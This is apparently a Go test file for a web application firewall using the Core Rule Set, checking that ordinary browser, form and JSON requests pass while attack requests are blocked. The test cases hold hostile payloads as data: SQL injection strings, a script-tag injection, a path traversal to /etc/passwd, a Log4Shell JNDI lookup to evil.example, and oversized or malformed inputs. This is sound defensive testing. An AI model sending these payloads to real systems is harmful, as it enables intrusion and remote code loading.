package filtertest

import (
	"strconv"
	"strings"
)

const sqli = "1%27%20or%201=1--%20"

// browser is what a browser sends for a page: 15 headers.
var browser = Fields{
	{"user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
	{"accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
	{"accept-language", "en-GB,en;q=0.7,de;q=0.3"},
	{"accept-encoding", "gzip, deflate, br, zstd"},
	{"referer", "https://app.example.com/catalogue?page=2"},
	{"dnt", "1"}, {"sec-gpc", "1"}, {"upgrade-insecure-requests", "1"},
	{"sec-fetch-dest", "document"}, {"sec-fetch-mode", "navigate"}, {"sec-fetch-site", "same-origin"}, {"sec-fetch-user", "?1"},
	{"cookie", "theme=dark; visits=7; consent=2026-01-04T10%3A00%3A00Z"},
	{"priority", "u=0, i"}, {"cache-control", "max-age=0"},
}

// attacks: the Core Rule Set as it is embedded, at paranoia level 1.
func attacks() []Case {
	get := func(path string, extra ...[2]string) Message {
		return Message{Path: path, Headers: with(Fields{{"user-agent", "curl/8"}, {"accept", "*/*"}}, extra...)}
	}
	post := func(contentType string, noLength bool, body ...string) Message {
		return Message{Method: "POST", Headers: Fields{{"user-agent", "curl/8"}, {"accept", "*/*"}, {"content-type", contentType}}, Body: body, NoLength: noLength}
	}
	denied := Want{Status: 403, Denied: true, Rule: 949110}
	trailers := post("application/x-www-form-urlencoded", true, "a=1&", "id=1' or 1=1-- ")
	trailers.Trailers = Fields{{"x-sum", "1"}}
	return []Case{
		{Name: "CRSPassesABrowser", Config: "default", Smoke: true, Upstream: page, Request: Message{Path: "/catalogue?page=3&sort=price", Headers: browser}, Want: Want{Status: 200}},
		{Name: "CRSPassesAForm", Config: "default", Upstream: page, Request: post("application/x-www-form-urlencoded", false, "name=Ada&city=Z%C3%BCrich"), Want: Want{Status: 200}},
		{Name: "CRSPassesAChunkedForm", Config: "default", Upstream: page, Request: post("application/x-www-form-urlencoded", true, "name=Ada&", "city=London"), Want: Want{Status: 200}},
		{Name: "CRSPassesJSON", Config: "default", Upstream: page, Request: post("application/json", false, `{"name":"Ada","tags":["a","b"]}`), Want: Want{Status: 200}},
		{Name: "CRSBlocksSQLInjectionInTheQuery", Config: "default", Smoke: true, Upstream: page, Request: get("/?id=" + sqli), Want: denied},
		{Name: "CRSBlocksSQLInjectionInTheLastChunk", Config: "default", Smoke: true, Upstream: page, Request: post("application/x-www-form-urlencoded", true, "a=1&", "b=2&", "id=1' or 1=1-- "), Want: denied},
		{Name: "CRSBlocksSQLInjectionBeforeTrailers", Config: "default", Smoke: true, Upstream: page, Request: trailers, Want: denied},
		{Name: "CRSBlocksSQLInjectionInJSON", Config: "default", Smoke: true, Upstream: page, Request: post("application/json", false, `{"user":{"id":"1' or 1=1-- "}}`), Want: denied},
		{Name: "CRSBlocksSQLInjectionInACookie", Config: "default", Smoke: true, Upstream: page, Request: get("/", [2]string{"cookie", "id=1' or 1=1-- "}), Want: denied},
		{Name: "CRSBlocksScripting", Config: "default", Upstream: page, Request: get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), Want: denied},
		{Name: "CRSBlocksPathTraversal", Config: "default", Upstream: page, Request: get("/?file=../../../../etc/passwd"), Want: denied},
		{Name: "CRSBlocksLog4Shell", Config: "default", Upstream: page, Request: get("/", [2]string{"x-api-version", "${jndi:ldap://evil.example/a}"}), Want: denied},
		{Name: "CRSBlocksAttackBehindAnUnparsableHost", Config: "default", Upstream: page,
			Request: Message{Path: "/?id=" + sqli, Authority: "x:abc", Headers: Fields{{"user-agent", "curl/8"}, {"accept", "*/*"}}}, Want: denied},
		{Name: "CRSBlocksAttackInALargeJSON", Config: "default", Upstream: page,
			Request: post("application/json", false, `{"pad":"`+strings.Repeat("lorem ipsum ", 800)+`","id":"1' or 1=1-- "}`), Want: denied},
	}
}

// badInput: hostile bytes have a stated outcome and are no way around.
func badInput() []Case {
	var args strings.Builder
	for i := range 2000 {
		args.WriteString("a" + strconv.Itoa(i) + "=1&")
	}
	curl := Fields{{"user-agent", "curl/8"}, {"accept", "*/*"}}
	post := func(contentType, body string) Message {
		return Message{Method: "POST", Headers: with(curl, [2]string{"content-type", contentType}), Body: []string{body}}
	}
	return []Case{
		{Name: "UnparsablePathDoesNotHideTheQuery", Config: "default", Upstream: page,
			Request: Message{Path: "/%zz?id=" + sqli, Headers: curl}, Want: Want{Status: 400, Denied: true, Rule: 200009}},
		{Name: "AttackAfterTwoThousandArguments", Config: "default", Upstream: page,
			Request: Message{Path: "/?" + args.String() + "id=" + sqli, Headers: curl}, Want: Want{Status: 400, Denied: true, Rule: 200004}},
		{Name: "AttackAfterTwoThousandFormFields", Config: "default", Upstream: page,
			Request: post("application/x-www-form-urlencoded", args.String()+"id=1' or 1=1-- "), Want: Want{Status: 400, Denied: true, Rule: 200005}},
		{Name: "NULInThePath", Config: "default", Upstream: page, Request: Message{Path: "/a%00b?id=" + sqli, Headers: curl},
			Want: Want{Status: 403, Denied: true, ByProxy: 400}},
		{Name: "NULInTheBody", Config: "default", Upstream: page, Request: post("application/x-www-form-urlencoded", "a=\x00&id=1' or 1=1-- "), Want: Want{Status: 403, Denied: true}},
		{Name: "NonUTF8InTheBody", Config: "default", Upstream: page, Request: post("application/x-www-form-urlencoded", "a=\xff\xfe&id=1' or 1=1-- "), Want: Want{Status: 403, Denied: true}},
		{Name: "NonUTF8InAHeader", Config: "default", Upstream: page,
			Request: Message{Path: "/?id=" + sqli, Headers: with(curl, [2]string{"x-odd", "\xff\xfe"})}, Want: Want{Status: 403, Denied: true}},
		{Name: "DeepJSON", Config: "default", Upstream: page, Request: post("application/json", strings.Repeat("[", 1_000_000)), Want: Want{Status: 400, Denied: true, Rule: 200002}},
		{Name: "ScalarsThenDeepJSON", Config: "default", Upstream: page,
			Request: post("application/json", "["+strings.Repeat("1,", 1000)+strings.Repeat("[", 1_000_000)), Want: Want{Status: 400, Denied: true}},
		{Name: "BrokenJSON", Config: "default", Upstream: page, Request: post("application/json", `{"id": "1`), Want: Want{Status: 400, Denied: true, Rule: 200002}},
	}
}
